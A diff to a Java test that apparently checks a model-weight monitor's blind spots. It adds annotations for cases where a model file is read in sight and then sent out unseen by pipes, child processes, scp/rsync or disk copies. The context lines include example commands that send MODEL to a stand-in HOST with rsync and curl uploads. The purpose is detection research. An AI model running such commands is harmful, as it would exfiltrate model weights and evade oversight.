@@ -1,10 +1,14 @@
 // SPDX-License-Identifier: Apache-2.0
 package io.modelwarden.system;
 
+import static io.modelwarden.coverage.Bytes.UNCOUNTED;
+import static io.modelwarden.coverage.Hook.SYS_EXIT;
+import static io.modelwarden.coverage.Kind.TRAIL;
 import static io.modelwarden.system.Stage.MODEL_BYTES;
 import static io.modelwarden.system.Stage.nameOf;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.modelwarden.coverage.Way;
 import java.io.IOException;
 import java.nio.file.Path;
 import org.junit.jupiter.api.AfterAll;
@@ -49,6 +53,34 @@ class ProgramBlindSpotsTest {
           unix socket to a child, by rsync ; rsync ; rsync -e "ssh OPTIONS" MODEL root@HOST:stolen
           copy on disk                     ; cp    ; cp MODEL COPY && curl -sS -T COPY http://HOST:8081/stolen
           """)
+  @Way(
+      value = "a pipe to another program",
+      of = TRAIL,
+      bytes = UNCOUNTED,
+      by = SYS_EXIT,
+      when = "pipe to another program",
+      note = "the read")
+  @Way(
+      value = "a pipe to a child forked before the read",
+      of = TRAIL,
+      bytes = UNCOUNTED,
+      by = SYS_EXIT,
+      when = "pipe to a child of the reader",
+      note = "the read")
+  @Way(
+      value = "scp and rsync over ssh",
+      of = TRAIL,
+      bytes = UNCOUNTED,
+      by = SYS_EXIT,
+      when = {"unix socket to a child, by scp", "unix socket to a child, by rsync"},
+      note = "the read")
+  @Way(
+      value = "a copy on disk, sent by another program",
+      of = TRAIL,
+      bytes = UNCOUNTED,
+      by = SYS_EXIT,
+      when = "copy on disk",
+      note = "the read")
   void modelHandedToAnotherProcess_isReadInSightAndSentUnseen(
       String blindSpot, String reader, String command) throws IOException {
     Path model = stage.model(reader);
